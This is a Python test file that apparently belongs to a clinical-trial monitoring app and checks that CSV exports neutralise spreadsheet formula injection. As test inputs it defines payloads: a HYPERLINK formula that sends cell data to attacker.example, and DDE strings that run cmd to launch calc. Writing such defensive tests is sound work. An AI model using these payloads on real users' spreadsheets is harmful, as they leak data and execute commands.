"""CSV formula injection (OWASP): free text that starts with =, +, -, @, a tab or a carriage return is written
with a leading quote in every CSV the application hands out, so a spreadsheet shows it as text; numbers
(a study day of -5) stay numbers; the ODM file keeps the raw value."""
import csv
import io
import re

import pytest
from django.contrib.contenttypes.models import ContentType

from crf.models import crf_models
from crf.services import crf_save
from monitoring.csv_safe import neutralise
from monitoring.exports import child_exports
from monitoring.models import ProtocolDeviation
from monitoring.record_exports import RECORD_EXPORTS
from monitoring.services import query_raise

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-5", "-5"), ("-1.5", "-1.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("plain", "plain"),
    ("", ""), (None, ""), ("a=b", "a=b"),
])
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_quote_and_a_number_does_not(value, written):
    assert neutralise(value) == written


@pytest.fixture
def hostile(full_patient, coordinator, monitor):
    """Formula-like text in a form's free text, a child row, a query, a deviation and the audit trail."""
    follow_up = full_patient.crfs["outcomes.followup"]
    follow_up.comments = HYPERLINK
    crf_save(crf=follow_up, by=coordinator, reason=PLUS)
    sae = full_patient.sae_report
    sae.notes = DDE
    sae.save()
    query_raise(crf=follow_up, field="comments", text=AT_SUM, by=monitor)
    ProtocolDeviation.objects.create(
        patient=full_patient.patient, content_type=ContentType.objects.get_for_model(follow_up),
        object_id=follow_up.pk, crf_label=follow_up.crf_label, rule="walk", field="comments", message=TAB,
        value="x", reason=CR, created_by=monitor)
    return full_patient


def _all_csv_urls() -> list[str]:
    urls = [f"/monitoring/exports/forms/{model.crf_code}.csv" for model in crf_models()]
    urls += [f"/monitoring/exports/forms/{e['crf_code']}/{e['name']}.csv" for e in child_exports()]
    urls += [f"/monitoring/exports/records/{slug}.csv" for slug in RECORD_EXPORTS]
    return urls + ["/monitoring/exports/data-dictionary.csv", "/api/v1/export/analysis.csv"]


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]


def test_no_csv_the_application_writes_holds_a_cell_a_spreadsheet_would_run(client, hostile, data_manager):
    client.force_login(data_manager)
    found = set()
    for url in _all_csv_urls():
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response)
        assert cells, url
        for cell in cells:
            if cell.startswith(FORMULA_STARTS):
                assert NUMBER.match(cell), f"{url}: {cell!r} would run as a formula"
        found.update(cell for cell in cells if cell in {"'" + v for v in (HYPERLINK, DDE, AT_SUM, PLUS, TAB, CR)})
    # each hostile value was exported, neutralised: in the form CSV, the SAE reports CSV, the queries CSV,
    # the deviations CSV and the audit trail CSV (the reason for change)
    assert found == {"'" + v for v in (HYPERLINK, DDE, AT_SUM, PLUS, TAB, CR)}


def test_the_odm_file_keeps_the_raw_values(api_client, hostile, data_manager):
    from lxml import etree

    api_client.force_authenticate(data_manager)
    document = etree.fromstring(b"".join(api_client.get("/api/v1/export/odm/").streaming_content))
    ns = {"odm": "http://www.cdisc.org/ns/odm/v1.3"}
    comments = document.xpath("//odm:ItemData[@ItemOID='I.FOLLOW_UP.COMMENTS']/@Value", namespaces=ns)
    assert comments[-1] == HYPERLINK
    notes = document.xpath("//odm:ItemData[@ItemOID='I.ADVERSE_EVENTS.SAE_REPORTS.NOTES']/@Value", namespaces=ns)
    assert notes[-1] == DDE
    reasons = document.xpath("//odm:ReasonForChange/text()", namespaces=ns)
    assert PLUS in reasons


def test_the_column_at_a_time_writer_neutralises_as_the_row_writer_does():
    """csv_columns_text (the submission datasets' CSV copies) writes byte for byte what csv_text writes."""
    from monitoring.csv_safe import csv_columns_text, csv_text

    values = ["=1+2", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-5", "-1.5", "+3", "1e-3", "plain", "", "a=b",
              HYPERLINK, DDE, AT_SUM, PLUS, TAB, CR, 'say "hi"', "two\nlines"]
    header = ["VALUE", "=OTHER"]
    rows = [[value, value[::-1]] for value in values]
    columns = [list(column) for column in zip(*rows, strict=True)]
    assert csv_columns_text(header, columns) == csv_text(header, rows)
    assert csv_columns_text(header, [[], []]) == csv_text(header, [])
